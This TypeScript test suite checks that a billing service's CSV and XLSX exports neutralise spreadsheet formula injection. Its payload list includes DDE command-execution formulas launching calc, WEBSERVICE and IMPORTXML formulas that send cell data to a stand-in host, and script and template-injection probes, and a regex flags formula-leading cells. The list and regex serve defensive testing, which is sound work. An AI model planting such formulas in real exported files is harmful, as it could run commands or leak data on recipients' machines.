import { parse } from 'csv-parse/sync';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { importHandlers } from '../../../services/import/index.ts';
import { unguardText } from '../../../services/reports/csv/guard.ts';
import { reportsHandlers } from '../../../services/reports/index.ts';
import { readXlsx } from '../../golden/reports/read-xlsx.ts';
import { ImportBench } from '../../support/import-host.ts';
import { bill, cells } from './bill.ts';
import { ParserPool } from '../../support/parser-pool.ts';

/** What spreadsheets have been made to run, or have read as something else, and what only looks like it. */
const PAYLOADS = [
  "=cmd|'/C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '=HYPERLINK("http://x.invalid","y")',
  '=1+1',
  '-1+1',
  '+1+1',
  '@x',
  '=',
  '-x',
  '+x',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠x',
  '|calc',
  '%0A=1+1',
  '	=1+1',
  ' =1+1',
  '\xA0=1+1',
  '﻿=1+1',
  '​=1+1',
  'x\n=1+1',
  'x\r\n-1+1',
  'x\r@y',
  "'=1+1",
  "''=1+1",
  '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("http://x.invalid/"&A1)',
  '=IMPORTXML("http://x.invalid","//a")',
  '=rundll32|x!y',
  ';=1+1',
  '","=1+1',
  '"=1+1"',
  'a=b',
  'a-b',
  'x@y.invalid',
  '1-1',
  "it's",
  'plain',
  '云硬盘',
  '‮gpj.exe',
  'a\x07b',
  'true',
  '007',
  '1e5',
  '2023-09-01',
  '${7*7}',
  '{{7*7}}',
  '<b>x</b>',
  '<script>alert(1)</script>',
  '%n%s',
];
/** What a cell may not begin with, after anything that a spreadsheet skips; nor a line within it. */
const RUNS = /(?:^|[\r\n])[\s\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠|%\t\r]/u;
const NUMBER = /^-?\d+(?:\.\d+)?$/;

const bench = new ImportBench();
const pool = new ParserPool();
bench.context.host.forkParser = pool.fork;
afterAll(() => {
  bench[Symbol.dispose]();
  pool[Symbol.dispose]();
});
const target = (name: string): string => bench.context.host.files.grant(join(bench.folder, name), 'write', name);
const read = (name: string): Buffer => readFileSync(join(bench.folder, name));
const quoted = (row: string[]): string => row.map((text) => `"${text.replaceAll('"', '""')}"`).join(',');
/** As the import keeps it: the space around a text is not part of it. */
const kept = (text: string): string => text.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '');

let batch = 0;
beforeAll(async () => {
  const rows = PAYLOADS.map((resource, i) => quoted(cells({ list: `-${i + 1}`, resource })));
  const bad = PAYLOADS.map((resource, i) => quoted(cells({ list: `-${i + 1}.5`, resource, period: 'never' })));
  const [result] = await bench.run(bench.file(bill(...rows, ...bad)));
  expect(result).toMatchObject({ imported: PAYLOADS.length, rejected: PAYLOADS.length });
  batch = result!.batch!;
});

it('keeps every text as it is', () => {
  const stored = bench.context.session
    .book()
    .read.all<{ text: string }>('SELECT t.text FROM bill_line b JOIN term t ON t.id = b.resource_id ORDER BY b.row');
  expect(stored.map(({ text }) => text)).toEqual(PAYLOADS.map(kept));
});

it('writes no formula into a CSV, guards no figure, and its guard comes off', async () => {
  await reportsHandlers['export/bills'](
    { period: '2023-09', where: [], hideZero: false, search: '', kind: 'detail', format: 'csv', target: target('lines.csv'), bom: true },
    bench.context,
  );
  const [header, ...rows] = parse(read('lines.csv'), { bom: true }) as string[][];
  const texts = rows.flat();
  expect(texts.filter((text) => RUNS.test(text) && !NUMBER.test(text))).toEqual([]);
  expect(texts.filter((text) => /^'-?\d+(?:\.\d+)?$/.test(text))).toEqual([]);
  const at = header!.indexOf('Resource ID');
  expect(rows.map((row) => unguardText(row[at]!)).toSorted()).toEqual(PAYLOADS.map(kept).toSorted());
  expect(rows.map((row) => row[header!.indexOf('Payable')]).toSorted()).toEqual(PAYLOADS.map((_, i) => `-${i + 1}.00000000`).toSorted());
});

it('writes no formula and no link into a workbook', async () => {
  await reportsHandlers['export/bills'](
    { period: '2023-09', where: [], hideZero: false, search: '', kind: 'detail', format: 'xlsx', target: target('lines.xlsx'), bom: true },
    bench.context,
  );
  const [sheet] = await readXlsx(read('lines.xlsx'));
  const values = [...sheet!.cells.values()];
  expect([sheet!.formulas, sheet!.links]).toEqual([0, 0]);
  // XML has no place for control characters: they are shown by what stands for them.
  const shown = new Set(values.map((cell) => cell.value));
  expect(PAYLOADS.map(kept).filter((text) => !/[\u0000-\u001f]/.test(text) && !shown.has(text))).toEqual([]);
});

it('writes no formula into the file of rejected rows, which gives them back when it is imported', async () => {
  await importHandlers['import/exportRejects']({ batch, target: target('rejects.csv'), language: 'en' }, bench.context);
  const text = read('rejects.csv').toString('utf8');
  const rows = parse(text, { bom: true }) as string[][];
  expect(rows.flat().filter((cell) => RUNS.test(cell) && !NUMBER.test(cell))).toEqual([]);
  const [again] = await bench.run(bench.file(text.replaceAll('never', '2023-09'), 'corrected.csv'));
  expect(again).toMatchObject({ imported: PAYLOADS.length, rejected: 0 });
  const stored = bench.context.session
    .book()
    .read.all<{ text: string }>('SELECT t.text FROM bill_line b JOIN term t ON t.id = b.resource_id WHERE b.batch_id = ? ORDER BY b.row', [
      again!.batch,
    ]);
  expect(stored.map((row) => row.text)).toEqual(PAYLOADS.map(kept));
});
